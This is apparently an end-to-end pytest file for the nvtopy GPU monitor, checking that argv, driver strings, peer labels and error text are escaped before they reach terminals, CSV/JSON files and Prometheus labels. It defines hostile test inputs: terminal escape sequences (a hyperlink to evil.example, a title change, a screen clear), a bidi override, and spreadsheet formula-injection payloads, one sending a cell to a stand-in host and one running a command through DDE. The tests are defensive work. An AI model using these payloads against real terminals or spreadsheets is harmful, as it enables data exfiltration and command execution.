"""The text policy (README, "Text from outside"), end to end.

Outside text -- a process's argv, the driver's strings, a peer's labels, an
error that quotes any of them -- is kept exactly in the model and made safe
where it is written: ``safe_text`` for a terminal, ``escape_text`` (reversible)
for files and the wire. Each test here uses hostile inputs (OSC 8 links, a
screen clear, C1 and DCS sequences, a bidi override, NUL, undecodable bytes,
markup) and fails if the escaping it guards is removed.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
from pathlib import Path

import psutil
import pytest

from nvtopy.backends.simulated.backend import SimulatedBackend
from nvtopy.backends.simulated.catalog import GpuModel, Workload
from nvtopy.commands import dispatch as cli
from nvtopy.commands import options
from nvtopy.errors import NvtopyError, UsageError
from nvtopy.formats.contract import dumps
from nvtopy.model import Snapshot
from nvtopy.render.gpu import compact_line, panel_lines, panel_title
from nvtopy.render.text import render_snapshot
from nvtopy.sources.collector import Collector
from nvtopy.textsafe import escape_text, safe_text, unescape_text

from ..builders import (
    LatestSource,
    gpu_process,
    gpu_sample,
    gpu_state,
    gpu_static,
    host_info,
    mig_instances,
    snapshot_of,
)
from ..conftest import needs_fake_nvml
from ..tui_helpers import screen_text, started, widget_strips
from ..waiting import exec_shown

ROOT = Path(__file__).resolve().parents[2]

OSC_TITLE = "\x1b]0;pwned\x07"
OSC8_LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
DCS = "\x1bP+q544e\x1b\\"
C1_DCS = "\x90q\x9c"
RTL = "\u202egnp.exe"
MARKUP = "[bold red]x[/][link=https://e.example]y[/link]"

GPU_NAME = f"NVIDIA {MARKUP}H100{OSC8_LINK}{C1_CSI}{RTL}"
HOSTNAME = f"node{CLEAR}{OSC_TITLE}-7"
DRIVER = f"550{DCS}.54{C1_DCS}"
CUDA = "12\x00.4\r\n"
USER = f"al\x1b[8mice{RTL}"
SIM_COMMAND = f"python train.py --tag={MARKUP} a\x00b {OSC_TITLE} " + "x" * 3000 + "\udcfe" + "y" * 3000
# A real argv: not UTF-8 (a lone 0xff, a raw C1 byte), escape sequences, text that looks like our escapes.
ARGV0 = b"tr\xffain \x1b]0;owned\x07 \x9b \xc2\x9b2J \\x41 \\\\ \xe9t\xc3\xa9 " + b"a" * 2000 + b"\xfe" + b"b" * 2000

# Never on a terminal: C0 (but the newlines between lines), DEL, C1, bidi controls, lone surrogates.
TERMINAL_BAD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# Never in a file: C0 (but newlines), DEL, C1, lone surrogates (bidi marks are valid text there).
FILE_BAD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
FILE_BAD_BYTES = re.compile(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")


def hostile_model(name: str = GPU_NAME) -> GpuModel:
    return GpuModel(name, 81559, 700, 200, 700, 87, 92, 1980, 2619, "9.0", 0, True, False, False)


def hostile_backend(real_pids=(), *, gpus: int = 2, name: str = GPU_NAME, clock=None) -> SimulatedBackend:
    """Simulated GPUs whose every outside string is hostile; ``real_pids`` are listed as GPU processes."""
    extra = {} if clock is None else {"clock": clock}
    return SimulatedBackend(
        gpus=gpus,
        model=hostile_model(name),
        hostname=HOSTNAME,
        driver_version=DRIVER,
        cuda_driver_version=CUDA,
        viewer=USER,
        real_pids=real_pids,
        workloads=[Workload(SIM_COMMAND, (0.1, 0.2), (0.3, 0.5), (600, 600))],
        processes_per_gpu=2,
        steady=True,
        **extra,
    )


def spawn_sleep(argv0: str | bytes) -> subprocess.Popen:
    """``sleep 600`` under the argv0 ``argv0`` (as ``exec -a`` makes), once the kernel shows its new argv.

    Why wait (:func:`tests.waiting.exec_shown`): ``Popen`` returns before the kernel has set the new program's
    argv; a read in that window saw no command, so the comparison with the hostile argv failed (fresh clones,
    2026-11-30).
    """
    proc = subprocess.Popen([argv0, b"600" if isinstance(argv0, bytes) else "600"], executable=shutil.which("sleep"))
    try:
        exec_shown(proc.pid)
    except AssertionError:
        proc.kill()
        proc.wait(timeout=10)
        raise
    return proc


@pytest.fixture
def child():
    """A real process whose argv0 is ARGV0 (non-UTF-8 bytes and escape sequences), as ``exec -a`` makes."""
    proc = spawn_sleep(ARGV0)
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait(timeout=10)


def argv_text(pid: int) -> str:
    """The command nvtopy shows for ``pid`` (psutil's argv, joined), exactly."""
    text = " ".join(psutil.Process(pid).cmdline())
    assert text == os.fsdecode(ARGV0) + " 600"
    assert "\udcff" in text and "\x1b" in text, "the child really has a hostile argv"
    return text


@pytest.fixture
def hostile_cli(monkeypatch, child):
    """``nvtopy.commands.dispatch.main`` on hostile simulated GPUs that also list the real ``child``."""
    monkeypatch.setattr(options, "open_backend", lambda args: hostile_backend([child.pid]))
    return child


def assert_file_text(text: str) -> None:
    assert text.encode("utf-8")  # strict: no lone surrogate
    bad = FILE_BAD.findall(text.replace("\n", ""))
    assert bad == [], f"control characters in a file: {bad!r}"


def assert_terminal_text(text: str) -> None:
    bad = TERMINAL_BAD.findall(text)
    assert bad == [], f"control characters reach the terminal: {bad!r}"


# --------------------------------------------------------------------------- the two functions


def _random_bytes(rng: random.Random) -> bytes:
    pieces = [
        b"\\",
        b"\\\\",
        b"x",
        b"\\x",
        b"\\x4",
        b"\\x41",
        b"\\xzz",
        b"41",
        b"ff",
        b"a",
        b" ",
        b"\x1b",
        b"\x07",
        b"\x00",
        b"\n",
        b"\x7f",
        b"\xc2\x9b",
        b"\xe2\x80\xae",
        b"\xe2\x80\xa8",
        b"\xe9",
        b"\xc3\xa9",
        b"\xf0\x9f\x98\x80",
        b"\xed\xa0\x80",  # an encoded surrogate: not UTF-8, each byte undecodable
    ]
    out = bytearray()
    for _ in range(rng.randrange(0, 24)):
        if rng.random() < 0.3:
            out += bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4)))
        else:
            out += rng.choice(pieces)
    return bytes(out)


def test_escape_text_round_trips_any_bytes_and_is_always_clean():
    rng = random.Random(20240611)
    for _ in range(20000):
        raw = _random_bytes(rng)
        text = raw.decode("utf-8", "surrogateescape")  # what the OS and psutil hand us
        escaped = escape_text(text)
        escaped.encode("utf-8")  # strict: always valid UTF-8
        assert FILE_BAD.search(escaped) is None, (raw, escaped)
        assert "\n" not in escaped and "\r" not in escaped
        assert unescape_text(escaped) == text, (raw, escaped)
        assert TERMINAL_BAD.search(safe_text(text)) is None


def test_ordinary_text_passes_unchanged():
    for text in ("NVIDIA H100 80GB HBM3", "python C:\\temp\\train.py", "café ☃ 数据", "550.54.15", ""):
        assert escape_text(text) == text
        assert safe_text(text) == text
    assert escape_text(None) is None and unescape_text(None) is None


# --------------------------------------------------------------------------- views, on a snapshot built by hand


def _hostile_snapshot() -> Snapshot:
    static = gpu_static(
        0,
        bare=True,
        uuid=f"GPU-{CLEAR}1",
        name=GPU_NAME,
        bus_id=f"00000000:3B{OSC_TITLE}:00.0",
        serial=f"16{C1_CSI}5",
        compute_capability=f"9{DCS}.0",
        mig_instances=tuple(
            dataclasses.replace(instance, profile=profile)
            for instance, profile in zip(
                mig_instances(f"MIG-{OSC8_LINK}", "MIG-\udcff"),
                (f"3g.40gb{CLEAR}", f"1g\udcfe.{OSC_TITLE}"),
                strict=True,
            )
        ),
        host=f"peer{OSC_TITLE}",
        host_index=1,
    )
    sample = gpu_sample(
        1.0, bare=True, compute_mode=f"Default{C1_DCS}", throttle_reasons=("sw_power_cap", f"odd{CLEAR}")
    )
    process = gpu_process(
        0,
        4242,
        bare=True,
        gpu_uuid=static.uuid,
        gpu_memory_bytes=1 << 30,
        user=USER,
        name=f"tr\udcffain{OSC_TITLE}",
        command=SIM_COMMAND,
        status=f"running{C1_CSI}",
    )
    noted = gpu_state(
        1,
        static=gpu_static(1, bare=True, name=GPU_NAME, host=f"peer2{CLEAR}"),
        sample=gpu_sample(1.0, bare=True),
        note=f"bad reply {OSC_TITLE}",
    )
    host = host_info(hostname=HOSTNAME, driver_version=DRIVER, cuda_driver_version=CUDA, nvml_version=f"12{DCS}")
    return snapshot_of(gpu_state(0, process, static=static, sample=sample), noted, host=host)


def test_json_escapes_every_outside_string_once_and_reversibly():
    snapshot = _hostile_snapshot()
    text = dumps(snapshot)
    assert_file_text(text)
    data = json.loads(text)
    gpu, proc = data["gpus"][0], data["gpus"][0]["processes"][0]
    host, state = snapshot.host, snapshot.gpus[0]
    static, sample, process = state.static, state.sample, state.processes[0]
    expected = [
        (data, "hostname", host.hostname),
        (data, "driver_version", host.driver_version),
        (data, "cuda_driver_version", host.cuda_driver_version),
        (data, "nvml_version", host.nvml_version),
        (gpu, "uuid", static.uuid),
        (gpu, "name", static.name),
        (gpu, "bus_id", static.bus_id),
        (gpu, "serial", static.serial),
        (gpu, "compute_capability", static.compute_capability),
        (gpu, "compute_mode", sample.compute_mode),
        (proc, "user", process.user),
        (proc, "name", process.name),
        (proc, "command", process.command),
        (proc, "status", process.status),
    ]
    for where, key, original in expected:
        assert where[key] != original, f"{key} is escaped"
        assert unescape_text(where[key]) == original, key
    migs = gpu["mig_devices"]
    assert [unescape_text(m["uuid"]) for m in migs] == list(static.mig_devices)
    assert [unescape_text(m["profile"]) for m in migs] == [m.profile for m in static.mig_instances]
    for written, instance in zip(migs, static.mig_instances, strict=True):
        assert written["uuid"] != instance.uuid and written["profile"] != instance.profile, "escaped"
    assert [unescape_text(r) for r in gpu["throttle_reasons"]] == list(sample.throttle_reasons)


def test_csv_and_jsonl_writers_escape_once(tmp_path):
    from nvtopy.formats.writers import GPU_FIELDS, PROCESS_FIELDS, CsvWriter, JsonlWriter

    snapshot = _hostile_snapshot()
    process = snapshot.gpus[0].processes[0]
    for fields, processes in ((list(PROCESS_FIELDS), True), (list(GPU_FIELDS), False)):
        out = io.StringIO()
        CsvWriter(out, fields, processes, header=True).write(snapshot)
        assert_file_text(out.getvalue())
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        assert len(out.getvalue().splitlines()) == len(rows) + 1, "no row broken in two"
        row = rows[0]
        assert unescape_text(row["hostname"]) == HOSTNAME
        if processes:
            assert unescape_text(row["command"]) == process.command
            assert unescape_text(row["user"]) == process.user
            assert unescape_text(row["gpu_uuid"]) == snapshot.gpus[0].static.uuid
        else:
            assert unescape_text(row["name"]) == GPU_NAME
            assert unescape_text(row["driver_version"]) == DRIVER
            migs = row["mig_devices"].split(";")
            assert [unescape_text(m) for m in migs] == list(snapshot.gpus[0].static.mig_devices)
            devices = [r for r in rows if r["mig_index"]]  # a row per MIG device: every mig_* field is chosen
            assert [unescape_text(r["mig_uuid"]) for r in devices] == list(snapshot.gpus[0].static.mig_devices)
            assert [unescape_text(r["mig_profile"]) for r in devices] == [
                m.profile for m in snapshot.gpus[0].static.mig_instances
            ]
    out = io.StringIO()
    JsonlWriter(out, None, True).write(snapshot)
    assert out.getvalue().count("\n") == 1
    assert_file_text(out.getvalue())
    data = json.loads(out.getvalue())
    assert data == json.loads(dumps(snapshot)), "one encoder for --once --json and JSONL"
    assert unescape_text(data["gpus"][0]["processes"][0]["command"]) == process.command


FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)")


def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers():
    """``nvtopy log`` CSV: a process name, command, user or GPU name that a spreadsheet would run as a formula
    starts with ``'``; ``unescape_text`` after dropping it gives the text back; a negative number is a number."""
    from nvtopy.formats.writers import GPU_FIELDS, PROCESS_FIELDS, CsvWriter, _cell

    base = _hostile_snapshot()
    first = base.gpus[0]
    process = dataclasses.replace(first.processes[0], name=FORMULAS[0], command=FORMULAS[1], user=FORMULAS[2])
    static = dataclasses.replace(first.static, name=FORMULAS[3])
    gpu = dataclasses.replace(first, static=static, processes=(process,))
    snapshot = dataclasses.replace(base, gpus=(gpu,))
    for fields, processes, columns in (
        (list(PROCESS_FIELDS), True, {"name": FORMULAS[0], "command": FORMULAS[1], "user": FORMULAS[2]}),
        (list(GPU_FIELDS), False, {"name": FORMULAS[3]}),
    ):
        out = io.StringIO()
        CsvWriter(out, fields, processes, header=True).write(snapshot)
        row = next(csv.DictReader(io.StringIO(out.getvalue())))
        for column, text in columns.items():
            assert row[column].startswith("'"), (column, row[column])
            assert unescape_text(row[column][1:]) == text
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and not _is_number(cell)), cell
    assert (_cell(-3.5), _cell(-7), _cell("-x"), _cell(["=a", "b"])) == ("-3.5", "-7", "'-x", "'=a;b")


def test_log_csv_of_a_real_process_named_as_a_formula(monkeypatch, tmp_path):
    """``nvtopy log --processes`` on a real process whose argv0 is a spreadsheet formula: text, not a formula."""
    formula = '=HYPERLINK("http://evil/?"&A1,"ok")'
    proc = spawn_sleep(formula)
    try:
        monkeypatch.setattr(options, "open_backend", lambda args: hostile_backend([proc.pid]))
        path = tmp_path / "procs.csv"
        assert cli.main(["log", "--processes", "--count", "1", "--output", str(path)]) == 0
        rows = [r for r in csv.DictReader(io.StringIO(path.read_text())) if r["pid"] == str(proc.pid)]
        assert [r["command"] for r in rows] == ["'" + formula + " 600"]
    finally:
        proc.kill()
        proc.wait(timeout=10)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_text_view_shows_controls_as_visible_escapes():
    out = io.StringIO()
    render_snapshot(_hostile_snapshot(), out, color=False)
    text = out.getvalue()
    assert_terminal_text(text)
    assert "node\\e[2J\\e[H\\e]0;pwned\\x07-7" in text  # hostname in the header
    assert "driver 550\\eP+q544e\\e\\.54\\x90q\\x9c" in text
    assert "peer\\e]0;pwned\\x07/1" in text and "peer2\\e[2J" in text  # remote host names
    assert "bad reply \\e]0;pwned\\x07" in text  # a remote host's error note
    assert "3B\\e]0;pwned\\x07:00.0" in text  # bus id
    assert "odd\\e[2J" in text  # a throttle reason a recording or peer supplied
    assert "al\\e[8mice\\u202egnp.exe" in text  # user
    assert "tag=[bold red]x[/]" in text and "a\\x00b" in text and "\\xfe" in text  # command
    assert "H100\\e]8;;https://evil.example/\\e\\click" in text  # GPU name


def test_gpu_render_lines_are_safe():
    for gpu in _hostile_snapshot().gpus:
        lines = [panel_title(gpu), compact_line(gpu, 400), *panel_lines(gpu, 400)]
        for line in lines:
            assert_terminal_text(line.plain)
    gpu, noted = _hostile_snapshot().gpus
    assert "\\e]8;;" in panel_title(gpu).plain and "peer\\e]0;pwned\\x07/1" in panel_title(gpu).plain
    assert "bad reply \\e]0;pwned\\x07" in compact_line(noted, 200).plain
    assert "bad reply \\e]0;pwned\\x07" in panel_lines(noted, 200)[0].plain


# --------------------------------------------------------------------------- the CLI, in this process


def test_once_json_and_text_with_a_real_non_utf8_argv(hostile_cli, capsys):
    expected = argv_text(hostile_cli.pid)
    assert cli.main(["--once", "--json"]) == 0
    out = capsys.readouterr().out
    assert_file_text(out)
    data = json.loads(out)
    assert unescape_text(data["hostname"]) == HOSTNAME
    assert unescape_text(data["gpus"][0]["name"]) == GPU_NAME
    commands = {p["pid"]: unescape_text(p["command"]) for g in data["gpus"] for p in g["processes"]}
    assert commands[hostile_cli.pid] == expected
    assert SIM_COMMAND in commands.values()

    assert cli.main(["--once"]) == 0
    out = capsys.readouterr().out
    assert_terminal_text(out)
    assert safe_text(expected) in out, "the whole command, its controls made visible"
    assert "tr\\xffain \\e]0;owned\\x07 \\x9b \\x9b2J" in out


def test_log_and_record_with_a_real_non_utf8_argv(hostile_cli, tmp_path, capsys):
    expected = argv_text(hostile_cli.pid)
    path = tmp_path / "procs.csv"
    assert cli.main(["log", "--processes", "--count", "2", "--interval", "0.1", "--output", str(path)]) == 0
    text = path.read_bytes().decode("utf-8")  # strict
    assert_file_text(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(text.splitlines()) == len(rows) + 1
    mine = [r for r in rows if r["pid"] == str(hostile_cli.pid)]
    assert len(mine) == 2 and all(unescape_text(r["command"]) == expected for r in mine)
    assert USER in {unescape_text(r["user"]) for r in rows}

    path = tmp_path / "log.jsonl"
    assert cli.main(["log", "--format", "jsonl", "--processes", "--count", "1", "--output", str(path)]) == 0
    record = tmp_path / "rec.jsonl"
    assert cli.main(["record", str(record), "--count", "2", "--interval", "0.1"]) == 0
    for file, lines in ((path, 1), (record, 2)):
        text = file.read_bytes().decode("utf-8")
        assert_file_text(text)
        snapshots = [json.loads(line) for line in text.splitlines()]
        assert len(snapshots) == lines
        for data in snapshots:
            assert unescape_text(data["hostname"]) == HOSTNAME
            assert unescape_text(data["cuda_driver_version"]) == CUDA
            procs = {p["pid"]: p for g in data["gpus"] for p in g["processes"]}
            assert unescape_text(procs[hostile_cli.pid]["command"]) == expected

    # To stdout (a terminal, perhaps): the same escaped text, nothing raw.
    capsys.readouterr()
    assert cli.main(["log", "--processes", "--count", "1"]) == 0
    out = capsys.readouterr().out
    assert_file_text(out)
    assert "\x1b" not in out and "\x07" not in out


# --------------------------------------------------------------------------- the CLI, as a process, in every locale

_DRIVER = (
    "import sys\n"
    "from nvtopy.commands import dispatch as cli, options\n"
    "from tests.end_to_end.test_text_policy import hostile_backend\n"
    "pid = int(sys.argv[1])\n"
    "options.open_backend = lambda args: hostile_backend([pid])\n"
    "sys.exit(cli.main(sys.argv[2:]))\n"
)
LOCALES = [
    {"LC_ALL": "C"},  # Python's UTF-8 mode: surrogateescape would write the raw bytes
    {"LC_ALL": "en_US.UTF-8"},
    {"LC_ALL": "C.UTF-8", "PYTHONIOENCODING": "utf-8"},  # strict, as under a real en_US.UTF-8
]


def _run(pid: int, args: list[str], env_extra: dict[str, str]) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONIOENCODING", "LC_ALL", "NVTOPY_DEBUG")}
    env.update(env_extra)
    return subprocess.run(
        [sys.executable, "-c", _DRIVER, str(pid), *args], cwd=ROOT, capture_output=True, env=env, timeout=60
    )


@pytest.mark.parametrize("locale", LOCALES, ids=lambda e: ",".join(f"{k}={v}" for k, v in e.items()))
def test_once_in_a_subprocess_under_every_locale(child, locale):
    expected = argv_text(child.pid)
    result = _run(child.pid, ["--once", "--json"], locale)
    assert result.returncode == 0, result.stderr
    text = result.stdout.decode("utf-8")  # strict
    assert_file_text(text)
    data = json.loads(text)
    procs = {p["pid"]: p for g in data["gpus"] for p in g["processes"]}
    assert unescape_text(procs[child.pid]["command"]) == expected

    result = _run(child.pid, ["--once"], locale)
    assert result.returncode == 0, result.stderr
    assert b"\x1b" not in result.stdout and b"\x07" not in result.stdout and b"\xc2\x9b" not in result.stdout
    text = result.stdout.decode("utf-8")
    assert_terminal_text(text.replace("\n", ""))
    assert safe_text(expected) in text


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_terminal_that_cannot_show_the_text_gets_escapes_not_a_crash(child, encoding):
    result = _run(child.pid, ["--once"], {"PYTHONIOENCODING": encoding})
    assert result.returncode == 0, result.stderr
    text = result.stdout.decode(encoding)
    assert "internal error" not in result.stderr.decode(encoding, "replace")
    assert_terminal_text(text.replace("\n", ""))
    assert "\\u2500" in text or "─" in text  # the table rule, escaped where it cannot be encoded

    # JSON is UTF-8 whatever the terminal's encoding (RFC 8259): valid, and the same strings.
    result = _run(child.pid, ["--once", "--json"], {"PYTHONIOENCODING": encoding})
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout.decode("utf-8"))  # strict
    procs = {p["pid"]: p for g in data["gpus"] for p in g["processes"]}
    assert unescape_text(procs[child.pid]["command"]) == argv_text(child.pid)


# --------------------------------------------------------------------------- error messages


@pytest.mark.parametrize("error", [NvtopyError, UsageError, RuntimeError])
def test_guarded_prints_error_messages_escaped(error, capsys, monkeypatch):
    monkeypatch.delenv("NVTOPY_DEBUG", raising=False)

    def fail() -> int:
        raise error(f"peer answered {OSC_TITLE}{CLEAR}\nHTTP/1.1 \x9b2J\udcff")

    assert cli.guarded(fail) != 0
    err = capsys.readouterr().err
    assert err.count("\n") == 1, "one line"
    assert_terminal_text(err.rstrip("\n"))
    assert "peer answered \\e]0;pwned\\x07\\e[2J\\e[H\\nHTTP/1.1 \\x9b2J\\xff" in err


# --------------------------------------------------------------------------- the exporter's labels


def test_exporter_labels_are_utf8_and_unescape_back(child, clock):
    from prometheus_client import CollectorRegistry, generate_latest
    from prometheus_client.parser import text_string_to_metric_families

    from nvtopy.formats.prometheus.collect import SnapshotCollector
    from nvtopy.formats.prometheus.series import COMMAND_LABEL_MAX

    expected = argv_text(child.pid)
    backend = hostile_backend([child.pid], clock=clock)
    try:
        snapshot = Collector(backend).collect()
    finally:
        backend.close()

    registry = CollectorRegistry(auto_describe=False)
    registry.register(SnapshotCollector(LatestSource(snapshot)))
    body = generate_latest(registry)
    assert FILE_BAD_BYTES.search(body.replace(b"\n", b"")) is None
    families = {f.name: f for f in text_string_to_metric_families(body.decode("utf-8"))}
    gpu_samples = families["DCGM_FI_DEV_GPU_UTIL"].samples
    assert gpu_samples
    for sample in gpu_samples:
        assert unescape_text(sample.labels["modelName"]) == GPU_NAME
        assert unescape_text(sample.labels["Hostname"]) == HOSTNAME
        assert unescape_text(sample.labels["DCGM_FI_DRIVER_VERSION"]) == DRIVER
    procs = {int(s.labels["pid"]): s.labels for s in families["nvtopy_process_gpu_memory_bytes"].samples}
    assert unescape_text(procs[child.pid]["command"]) == expected[: COMMAND_LABEL_MAX - 1] + "…"
    assert unescape_text(procs[child.pid]["Hostname"]) == HOSTNAME
    assert USER in {unescape_text(labels["user"]) for labels in procs.values()}


# --------------------------------------------------------------------------- the TUI


def _drawn(app) -> list[str]:
    """The text of every segment the screen draws now (header, panels, table, dialogs)."""
    texts = [screen_text(app)]
    for widget in app.screen.query("*"):
        if widget.size.area:
            try:
                strips = widget_strips(widget)
            except Exception:  # a container that draws nothing itself
                continue
            texts.extend(segment.text for strip in strips for segment in strip)
    return texts


def _assert_screen_safe(app) -> str:
    texts = _drawn(app)
    for text in texts:
        assert_terminal_text(text.replace("\n", ""))
    return "\n".join(texts)


async def test_tui_draws_outside_text_escaped(clock):
    from nvtopy.tui.app import NvtopyApp
    from nvtopy.tui.screens import ConfirmSignalScreen, GpuPickerScreen

    from ..tui_helpers import header_line, wait_until

    backend = hostile_backend(gpus=1, clock=clock)
    app = NvtopyApp.for_backend(backend, interval=2.0)
    try:
        async with app.run_test(size=(200, 50)) as pilot:
            await started(pilot, app)
            drawn = _assert_screen_safe(app)
            header = header_line(app)
            assert "node\\e[2J\\e[H\\e]0;pwned\\x07-7" in header
            assert "driver 550\\eP+q544e\\e\\.54\\x90q\\x9c · CUDA 12\\x00.4\\r\\n" in header
            assert "[bold red]x[/]" in drawn and "H100\\e]8;;https://evil.example/" in drawn  # the panel title
            assert "tag=[bold red]x[/]" in drawn and "\\e]0;pwned\\x07" in drawn  # the command column

            await pilot.press("v", "v")  # auto -> full -> compact lines
            await pilot.pause()
            assert app.query_one("#gpus").plan.kind == "compact"
            assert "H100\\e]8;;" in _assert_screen_safe(app)

            await pilot.press("g")  # the GPU picker
            await wait_until(pilot, lambda: isinstance(app.screen, GpuPickerScreen))
            await pilot.pause()
            assert "[bold red]x[/]" in _assert_screen_safe(app)
            await pilot.press("escape")
            await pilot.pause()

            await pilot.press("T")  # the confirmation names the command
            await wait_until(pilot, lambda: isinstance(app.screen, ConfirmSignalScreen))
            await pilot.pause()
            assert "a\\x00b" in _assert_screen_safe(app)
            await pilot.press("n")
            await pilot.pause()

            await pilot.press("slash")  # the filter's label in the header (pasted text may hold anything)
            app.query_one("#filter").value = f"x{OSC_TITLE}"
            await pilot.pause()
            assert '"x\\e]0;pwned\\x07"' in header_line(app)
            assert_terminal_text(header_line(app))  # (the Input box itself echoes what was pasted: Textual's)
    finally:
        backend.close()


# --------------------------------------------------------------------------- on the real driver path (fake NVML)

_FAKE = needs_fake_nvml


@_FAKE
def test_fake_nvml_hostile_model_and_argv_end_to_end(fake_lib, child, tmp_path):
    build = fake_lib
    expected = argv_text(child.pid)
    model = "NVIDIA H100 \x1b]0;pwned\x07 \x1b[2J 80GB HBM3"
    env = {k: v for k, v in os.environ.items() if not k.startswith("FAKE_NVML_") and k != "CUDA_VISIBLE_DEVICES"}
    env.update(
        LD_LIBRARY_PATH=str(build),
        FAKE_NVML_GPUS="2",
        FAKE_NVML_PIDS=str(child.pid),
        FAKE_NVML_MODEL=model,
        LC_ALL="C.UTF-8",
        PYTHONIOENCODING="utf-8",
    )

    def nvtopy(*args: str) -> subprocess.CompletedProcess:
        result = subprocess.run([sys.executable, "-m", "nvtopy", *args], capture_output=True, env=env, timeout=60)
        assert result.returncode == 0, result.stderr
        assert b"internal error" not in result.stderr
        return result

    text = nvtopy("--once", "--json").stdout.decode("utf-8")
    assert_file_text(text)
    data = json.loads(text)
    assert unescape_text(data["gpus"][0]["name"]) == model
    procs = {p["pid"]: p for g in data["gpus"] for p in g["processes"]}
    assert unescape_text(procs[child.pid]["command"]) == expected

    text = nvtopy("--once").stdout
    assert b"\x1b" not in text and b"\x07" not in text and b"\xc2\x9b" not in text
    assert "H100 \\e]0;pwned\\x07 \\e[2J 80GB HBM3" in text.decode("utf-8")

    path = tmp_path / "procs.csv"
    nvtopy("log", "--processes", "--count", "1", "--output", str(path))
    text = path.read_bytes().decode("utf-8")
    assert_file_text(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [unescape_text(r["command"]) for r in rows if r["pid"] == str(child.pid)] == [expected]

    record = tmp_path / "rec.jsonl"
    nvtopy("record", str(record), "--count", "1")
    text = record.read_bytes().decode("utf-8")
    assert_file_text(text)
    (line,) = text.splitlines()
    data = json.loads(line)
    assert unescape_text(data["gpus"][0]["name"]) == model
    assert expected in {unescape_text(p["command"]) for g in data["gpus"] for p in g["processes"]}
